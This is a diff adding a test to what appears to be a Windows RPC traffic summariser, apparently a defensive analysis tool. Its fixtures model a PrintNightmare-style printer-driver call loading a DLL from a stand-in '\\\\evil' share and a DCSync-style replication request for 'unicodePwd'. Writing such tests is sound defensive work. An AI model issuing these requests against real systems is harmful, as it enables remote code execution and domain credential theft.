@@ -507,3 +507,38 @@ test("of many conversations those that changed something come first; of several 
     ),
   );
 });
+
+test("what is told lies anywhere in a parameter, in whichever arm of a union", () => {
+  const spooler = { uuid: "12345678-1234-abcd-ef00-0123456789ab", version: "1.0", name: "winspool" };
+  const level2 = {
+    pName: "1234",
+    pDriverPath: "C:\\UNIDRV.DLL",
+    pDataFile: "\\\\evil\\x.dll",
+    pConfigFile: "C:\\y.dll",
+  };
+  const drsuapi = { uuid: "e3514235-4b06-11d1-ab04-00c04fc2dcd2", version: "4.0", name: "drsuapi" };
+  const meant = {
+    "pmsgIn.V8.pNC": "DC=corp",
+    "pmsgIn.V8.pPartialAttrSet": "unicodePwd",
+    "pmsgIn.V8.x.pNC": "no",
+  };
+  const shown = lines([
+    call({
+      interface: spooler,
+      opnum: 89,
+      method: "RpcAddPrinterDriverEx",
+      request: { pName: null, pDriverContainer: { Level: 2, DriverInfo: { Level2: level2 } } },
+    }),
+    call({
+      stream: 1,
+      interface: drsuapi,
+      opnum: 3,
+      method: "IDL_DRSGetNCChanges",
+      request: { pmsgIn: { V8: { pNC: { StringName: "DC=corp" } } } },
+      readable: { request: meant, response: {} },
+    }),
+    summary(),
+  ]);
+  assert.ok(shown[0]!.endsWith('winspool.RpcAddPrinterDriverEx "\\\\evil\\x.dll", "C:\\y.dll"'), shown[0]);
+  assert.ok(shown[1]!.endsWith('drsuapi.IDL_DRSGetNCChanges "DC=corp", "unicodePwd"'), shown[1]);
+});
